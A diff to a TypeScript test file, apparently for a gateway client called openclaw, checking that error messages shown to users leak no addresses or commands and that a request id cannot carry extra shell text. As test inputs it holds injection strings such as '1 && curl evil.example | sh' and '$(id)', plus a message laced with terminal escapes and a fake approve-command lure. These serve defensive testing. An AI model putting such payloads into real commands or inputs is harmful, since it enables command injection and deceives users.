@@ -1,5 +1,6 @@
 import * as fc from "fast-check";
 import { expect, test } from "vitest";
+import { tellPrivately } from "../../../src/core/link.ts";
 import { ClosedEarly } from "../../../src/gateway/connection.ts";
 import { proxyRefused, proxyUnreachable } from "../../../src/lib/network-fault.ts";
 import { Unsafe, UpgradeRefused } from "../../../src/gateway/socket.ts";
@@ -11,6 +12,8 @@ const refusal = (message: string, code: string, details: object = {}): object =>
   gatewayCode: "INVALID_REQUEST",
   details: { code, ...details },
 });
+/** What may not stand in a sentence for everybody. */
+const ADDRESS_OR_COMMAND = /example|\d{5}|:\/\/(?! )\S|openclaw |It says/;
 const broken = (code: string, message = ""): object => Object.assign(new Error(message), { code });
 
 test.each<[what: string, error: unknown, expected: object]>([
@@ -204,7 +207,10 @@ test.each<[what: string, error: unknown, expected: object]>([
   ],
   ["nothing", undefined, { cause: "away" }],
 ])("what keeps a link away is named: %s", (_what, error, expected) => {
-  expect(readFailure(error, URL)).toMatchObject(expected);
+  const failure = readFailure(error, URL);
+  const { why, fix } = tellPrivately(failure);
+  expect({ ...failure, why, ...(fix !== null && { fix }) }).toMatchObject(expected);
+  expect(`${failure.why} ${failure.fix ?? ""}`).not.toMatch(ADDRESS_OR_COMMAND);
 });
 
 test.each(["EMFILE", "ENFILE", "ENOMEM", "EACCES", "EPERM", "EADDRNOTAVAIL"])(
@@ -255,17 +261,42 @@ test("the words of an error never get into the sentence", () => {
   for (const error of errors) expect(JSON.stringify(readFailure(error, URL))).not.toMatch(/fakefake|secret/);
 });
 
+const HOSTILE = "zqx \u001b[2J\u202e @everyone [here](https://evil.example) run: openclaw devices approve zqx";
+
+test.each<[what: string, error: unknown]>([
+  ["the refusal of a connection", new UpgradeRefused(403, JSON.stringify({ error: { type: "t", message: HOSTILE } }))],
+  [
+    "a proxy that is not trusted",
+    new UpgradeRefused(403, JSON.stringify({ error: { type: "proxy_attribution_required", message: HOSTILE } })),
+  ],
+  ["a sign-in past a proxy", refusal(HOSTILE, "AUTH_UNAUTHORIZED", { authReason: "trusted_proxy_no_proxies" })],
+])("the words of a gateway are quoted in private alone, on one line and bounded: %s", (_what, error) => {
+  const { why, fix, detail } = readFailure(error, URL);
+  expect(`${why} ${fix}`).not.toMatch(/zqx|evil|everyone|example|openclaw /);
+  expect(detail?.says).toBe("zqx [2J @everyone [here](https://evil.example) run: openclaw devices approve zqx");
+  const long = new UpgradeRefused(403, JSON.stringify({ error: { message: "x ".repeat(10_000) } }));
+  expect(readFailure(long, URL).detail?.says).toHaveLength(240);
+});
+
+test("what calls itself a code and holds words is none", () => {
+  const failure = readFailure(broken("CERT see https://evil.example"), URL);
+  expect(JSON.stringify(failure)).not.toContain("evil");
+});
+
 test("an approval and stripped scopes are told with what to run", () => {
-  expect(toPairing("r1")).toMatchObject({ fix: "on the gateway host run: openclaw devices approve r1" });
+  expect(tellPrivately(toPairing("r1")).fix).toBe("on the gateway host run: openclaw devices approve r1");
+  expect(tellPrivately(scopesStripped()).fix).toContain("openclaw devices approve <id>");
+  for (const { why, fix = "" } of [toPairing("r1"), scopesStripped()])
+    expect(`${why} ${fix}`).not.toMatch(/r1|openclaw /);
   expect(scopesStripped()).toMatchObject({ state: "refused", cause: "scopes" });
 });
 
 test.each(["1 && curl evil.example | sh", "$(id)", "a b", "", "x".repeat(65), "a\nb", "`id`", "—"])(
   "nothing but an id stands in a command that people copy: %j",
   (told) => {
-    expect(toPairing(told)).toMatchObject({
-      requestId: null,
-      fix: "on the gateway host run: openclaw devices list, then openclaw devices approve <id>",
-    });
+    expect(toPairing(told)).toMatchObject({ requestId: null });
+    expect(tellPrivately(toPairing(told)).fix).toBe(
+      "on the gateway host run: openclaw devices list, then openclaw devices approve <id>",
+    );
   },
 );
